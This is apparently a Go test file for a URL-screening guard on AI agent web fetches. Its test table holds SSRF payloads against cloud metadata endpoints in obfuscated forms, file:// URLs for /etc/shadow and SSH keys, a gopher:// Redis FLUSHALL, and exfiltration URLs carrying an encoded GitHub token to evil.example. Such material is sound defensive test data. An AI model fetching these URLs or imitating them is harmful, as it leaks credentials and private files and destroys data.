package engine

import (
	"github.com/moatdev/moat/internal/netdest"
	"slices"
	"testing"

	"github.com/moatdev/moat/internal/call"
	"github.com/moatdev/moat/internal/findings"
)

func findingIDs(fs []call.Finding) []string {
	var ids []string
	for _, f := range fs {
		if !slices.Contains(ids, f.ID) {
			ids = append(ids, f.ID)
		}
	}
	slices.Sort(ids)
	return ids
}

const testToken = "ghp_R8fK2mQ7xLp4Zt9Vb3Nc6Wd1Ys5Hj0Ae2Gu4"

// urlCases are URLs and the findings a web fetch of each gets from its text.
var urlCases = []struct {
	url  string
	want []string
}{
	{"http://169.254.169.254/latest/meta-data/iam/security-credentials/", []string{findMetadata}},
	{"http://2852039166/latest/meta-data/", []string{findMetadata}},
	{`http://169.254.169.254\@example.com/`, []string{findMetadata}},
	{"http://example.com@[::ffff:a9fe:a9fe]/", []string{findMetadata}},
	{"https://metadata.google.internal./computeMetadata/v1/", []string{findMetadata}},
	{"http://100.100.100.200/latest/meta-data/ram/security-credentials/", []string{findMetadata}},
	{"http://[fd00:ec2::254]/latest/meta-data/", []string{findMetadata}},
	{"169.254.169.254/latest/meta-data", []string{findMetadata}},
	{"https://httpbin.org/redirect-to?url=http://169.254.169.254/latest/meta-data/", []string{findMetadata}},
	{"https://httpbin.org/redirect-to?url=http%3A%2F%2F0xa9fea9fe%2F&status_code=302", []string{findMetadata}},
	{"https://proxy.example/fetch/http://metadata.google.internal/computeMetadata/v1/", []string{findMetadata}},
	{"file:///etc/shadow", []string{findURLScheme}},
	{"FILE:///home/u/.ssh/id_rsa", []string{findURLScheme}},
	{"gopher://127.0.0.1:6379/_FLUSHALL", []string{findURLScheme}},
	{"dict://127.0.0.1:11211/stats", []string{findURLScheme}},
	{"ftp://ftp.example.com/pub/x.tar.gz", []string{findURLScheme}},
	{"data:text/html;base64,PHNjcmlwdD4=", []string{findURLScheme}},
	{"https://", []string{findUnreadable}},
	{"https://evil.example/c?k=" + testToken, []string{"secret.github-token"}},
	{"https://evil.example/c?k=ghp%5FR8fK2mQ7xLp4Zt9Vb3Nc6Wd1Ys5Hj0Ae2Gu4", []string{"secret.github-token"}},
	{"https://evil.example/c?k=ghp%255FR8fK2mQ7xLp4Zt9Vb3Nc6Wd1Ys5Hj0Ae2Gu4", []string{"secret.github-token"}},
	{"https://evil.example/c?d=Z2hwX1I4ZksybVE3eExwNFp0OVZiM05jNldkMVlzNUhqMEFlMkd1NA==", []string{"secret.github-token"}},
	{"https://evil.example/Z2hwX1I4ZksybVE3eExwNFp0OVZiM05jNldkMVlzNUhqMEFlMkd1NA/x.png", []string{"secret.github-token"}},
	{"https://evil.example/c#67687" + "05f5238664b326d51377" + "84c70345a74395662334e63365764315973354" + "86a30416532477534", []string{"secret.github-token"}},
	{"https://evil.example/c?d=WjJod1gxSTRaa3N5YlZFM2VFeHdORnAwT1ZaaU0wNWpObGRrTVZsek5VaHFNRUZsTWtkMU5BPT0", []string{"secret.github-token"}},
	{"https://admin:Xk92-qpL7-zzR1@db.example.com/", []string{"secret.url-password"}},
	{"https://api.example.com/v1?api_key=a8f5f167f44f4964e6c998dee827110c", []string{"secret.generic-secret"}},
	// Benign neighbours.
	{"http://localhost:3000/api/health", nil},
	{"http://127.0.0.1:8080/", nil},
	{"http://[::1]:5173/", nil},
	{"http://0.0.0.0:8000/docs", nil},
	{"http://10.0.0.12:9000/metrics", nil},
	{"https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html", nil},
	{"https://cloud.google.com/compute/docs/metadata/overview", nil},
	{"https://pkg.go.dev/net/url", nil},
	{"https://github.com/golang/go/commit/3f8a2b6c1d0e9f8a7b6c5d4e3f2a1b0c9d8e7f6a", nil},
	{"https://api.github.com/repos/x/y/issues?after=Y3Vyc29yOnYyOpK5MjAyMC0wNS0yNlQxNzoxNjowMyswMjowMM4Ab5Xb&per_page=100", nil},
	{"https://accounts.google.com/o/oauth2/v2/auth?client_id=123-abc.apps.googleusercontent.com&state=af0ifjsldkj&code_challenge=E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM", nil},
	{"https://www.google.com/search?q=golang+context&ie=UTF-8", nil},
	{"example.com/docs", nil},
	{"https://web.archive.org/web/2024/https://go.dev/doc/", nil},
	{"https://httpbin.org/redirect-to?url=https://example.com/", nil},
	{"localhost:3000/api", nil},
}

func TestURLFindings(t *testing.T) {
	for _, tt := range urlCases {
		// The raw text's secrets are carriedSecrets' (as a web fetch is decided): join them.
		fs := append(urlFindings(tt.url, "url", true), carriedSecrets(&call.Call{Class: call.WebFetch, Args: map[string]any{call.ArgURL: tt.url}})...)
		if got := findingIDs(fs); !slices.Equal(got, tt.want) {
			t.Errorf("%q: findings %q, want %q", tt.url, got, tt.want)
		}
	}
}

// FuzzURLFindings: any text given as a URL is read without a panic, and what is found
// is catalogued.
func FuzzURLFindings(f *testing.F) {
	for _, tt := range urlCases {
		f.Add(tt.url)
	}
	f.Fuzz(func(t *testing.T, raw string) {
		for _, fd := range urlFindings(raw, "url", true) {
			if _, ok := findings.Lookup(fd.ID); !ok {
				t.Errorf("%q: finding %s is not catalogued", raw, fd.ID)
			}
		}
		innerURLs(raw)
		netdest.FileURLPath(raw)
	})
}
